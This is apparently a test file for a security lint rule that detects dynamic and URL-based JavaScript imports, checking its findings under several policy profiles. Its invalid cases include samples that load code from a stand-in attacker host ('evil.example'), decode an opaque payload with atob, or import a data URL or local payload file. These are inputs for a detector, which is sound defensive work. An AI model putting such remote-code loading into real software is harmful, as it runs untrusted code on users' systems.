import rule from '../../rules/no-dynamic-import.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

/** Findings under a profile's own defaults (the tester sets severities explicitly, which disables raising). */
function underProfile(code: string, profile: 'strict' | 'audit' | 'recommended'): string[] {
  const report = analyze(code, { filename: 'test.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => `${f.messageId}:${f.severity}`);
}

describe('no-dynamic-import severities', () => {
  it('inline and remote code is an error in audit and recommended', () => {
    assert.deepEqual(underProfile("import('data:text/javascript,1')", 'audit'), ['inline:error']);
    assert.deepEqual(underProfile("import('https://cdn.example/x.js')", 'recommended'), ['remote:error']);
  });
  it('a computed specifier is a warning in audit and recommended', () => {
    assert.deepEqual(underProfile('import(name)', 'audit'), ['dynamic:warn']);
    assert.deepEqual(underProfile('import(name)', 'recommended'), ['dynamic:warn']);
    assert.deepEqual(underProfile('import(name)', 'strict'), ['dynamic:error']);
  });
});

ruleTester(rule, {
  valid: [
    "import fs from 'node:fs'; import x from './x.js'; export * from 'lodash';",
    { code: "import { serve } from 'https://deno.land/std/http/server.ts';", profile: 'recommended' },
    "import('./chunk.js')",
    "await import('lodash')",
    "import(`./locale/${'en'}.js`)",
    "import(cond ? './a.js' : './b.js')",
    "const name = './feature.js'; import(name)",
    { code: "import(new URL('./worker.js', import.meta.url).href)", filename: 'a.mjs' },
    { code: "import(new URL('./worker.js', import.meta.url))", filename: 'a.mjs' },
    { code: "import path from 'node:path'; import(path.join(import.meta.dirname, 'x.js'))", filename: 'a.mjs' },
    "const s = 'import(x)'; // import(y)",
    "obj.import(name)",
    "function load(importer) { return importer(name) }",
    { code: "type T = typeof import('./types.js'); let t: T;", filename: 'a.ts' },
  ],
  invalid: [
    // Static imports of code from the network or an inline URL.
    { code: "import confetti from 'https://esm.example/confetti.mjs';", errors: [{ messageId: 'staticUrl', column: 22 }] },
    { code: "export * from 'data:text/javascript,export const x = 1';", errors: [{ messageId: 'staticUrl', column: 15 }] },
    { code: 'import(name)', errors: [{ messageId: 'dynamic', line: 1, column: 1, message: '`name`' }] },
    { code: "await import('./plugins/' + name + '.js')", errors: [{ messageId: 'dynamic', column: 7 }] },
    { code: 'const load = (n) => import(`./locale/${n}.js`);', errors: [{ messageId: 'dynamic', column: 21 }] },
    { code: 'import(atob(payload))', errors: [{ messageId: 'dynamic', column: 1 }] },
    { code: "import('data:text/javascript,console.log(1)')", errors: [{ messageId: 'inline', column: 1, message: "'data:text/javascript" }] },
    { code: "import('data:text/javascript;base64,' + btoa('process.exit()'))", errors: [{ messageId: 'inline', column: 1 }] },
    { code: "const u = 'https://evil.example/p.js'; import(u)", errors: [{ messageId: 'remote', column: 40 }] },
    { code: "import('HTTP://evil.example/p.js')", errors: [{ messageId: 'remote', column: 1 }] },
    { code: "import(cond ? './a.js' : 'http://x.example/b.js')", errors: [{ messageId: 'remote', column: 1 }] },
    { code: "import('blob:https://x.example/1234')", errors: [{ messageId: 'inline', column: 1 }] },
    { code: "import('file:///tmp/payload.mjs')", errors: [{ messageId: 'fileUrl', column: 1 }] },
    { code: "import(`data:text/javascript,${code}`)", errors: [{ messageId: 'dynamic', column: 1 }] },
    { code: 'import(name)', profile: 'audit', errors: [{ messageId: 'dynamic', severity: 'warn' }] },
    { code: 'import(name)', profile: 'recommended', errors: [{ messageId: 'dynamic', severity: 'warn' }] },
  ],
});
